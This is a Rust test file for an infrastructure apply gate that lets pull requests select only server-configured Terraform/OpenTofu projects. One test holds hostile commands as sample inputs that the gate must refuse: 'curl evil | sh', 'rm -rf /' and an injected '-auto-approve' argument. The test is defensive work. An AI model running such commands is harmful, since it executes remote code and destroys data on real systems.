//! Server-side projects; the pull request may only select among them.

use twokey_gate::config::{select, GateConfig, SelectionError, Tool};

const CONF: &str = r#"
[gate]
allow = ["acme/infra"]

[[gate.project]]
repo = "acme/infra"
name = "prod"
dir = "envs/prod"
tool = "terraform"
plan_args = ["-lock-timeout=60s"]

[[gate.project]]
repo = "acme/infra"
name = "staging"
dir = "envs/staging"
workspace = "staging"
tool = "tofu"
"#;

#[test]
fn defaults_are_strict() {
    let c = GateConfig::parse(CONF).expect("parses");
    assert_eq!(c.approvals, 1);
    assert!(c.require_mergeable && c.require_up_to_date && !c.apply_on_merge);
    assert_eq!(c.project[0].workspace, "default");
    assert_eq!(c.project[1].tool, Tool::Tofu);
    assert!(c.allows("ACME/infra"));
    assert!(!c.allows("evil/infra"));
}

#[test]
fn invalid_configs_are_refused() {
    for (bad, why) in [
        ("[gate]\napprovals = 0\n", "approvals"),
        ("[gate]\nallow=[]\n[[gate.project]]\nrepo=\"a/b\"\nname=\"p\"\ndir=\"x\"\n", "allow"),
        ("[gate]\nallow=[\"a/b\"]\n[[gate.project]]\nrepo=\"a/b\"\nname=\"p\"\ndir=\"../x\"\n", ".."),
        ("[gate]\nallow=[\"a/b\"]\n[[gate.project]]\nrepo=\"a/b\"\nname=\"p\"\ndir=\"x\"\ntool=\"bash\"\n", "tool"),
        ("[gate]\nallow=[\"a/b\"]\n[[gate.project]]\nrepo=\"a/b\"\nname=\"p\"\ndir=\"x\"\nsteps=[\"run\"]\n", "steps"),
    ] {
        assert!(GateConfig::parse(bad).is_err(), "{why}: {bad}");
    }
}

#[test]
fn a_pull_request_may_select_configured_projects() {
    let c = GateConfig::parse(CONF).expect("parses");
    let sel = select(&c, "acme/infra", "projects = [\"staging\"]\n").expect("selects");
    assert_eq!(sel.len(), 1);
    assert_eq!(sel[0].name, "staging");
    assert_eq!(sel[0].dir, "envs/staging");
}

#[test]
fn a_pull_request_that_adds_a_step_is_refused() {
    let c = GateConfig::parse(CONF).expect("parses");
    for attack in [
        // Atlantis-style custom workflow.
        "projects = [\"prod\"]\n[workflows.custom.apply]\nsteps = [{ run = \"curl evil | sh\" }]\n",
        // Redefining a project with its own arguments.
        "projects = [\"prod\"]\n[[project]]\nname = \"prod\"\napply_args = [\"-auto-approve\"]\n",
        "projects = [\"prod\"]\nplan_args = [\"-var=x\"]\n",
        "projects = [\"prod\"]\nsteps = [\"run: rm -rf /\"]\n",
    ] {
        let e = select(&c, "acme/infra", attack).expect_err(attack);
        assert!(matches!(e, SelectionError::Invalid(_)), "{attack}: {e}");
        assert!(e.to_string().contains("may only list"));
    }
    let e = select(&c, "acme/infra", "projects = [\"brand-new\"]\n").expect_err("unknown");
    assert_eq!(e, SelectionError::Unknown("brand-new".into()));
    // Projects of another repository are not selectable.
    assert!(select(&c, "acme/other", "projects = [\"prod\"]\n").is_err());
}

#[test]
fn autoplan_follows_changed_files() {
    let c = GateConfig::parse(CONF).expect("parses");
    let changed = vec!["envs/prod/main.tf".to_string(), "README.md".to_string()];
    let a = c.affected("acme/infra", &changed);
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].name, "prod");
    assert!(c
        .affected("acme/infra", &["envs/production/x.tf".into()])
        .is_empty());
}
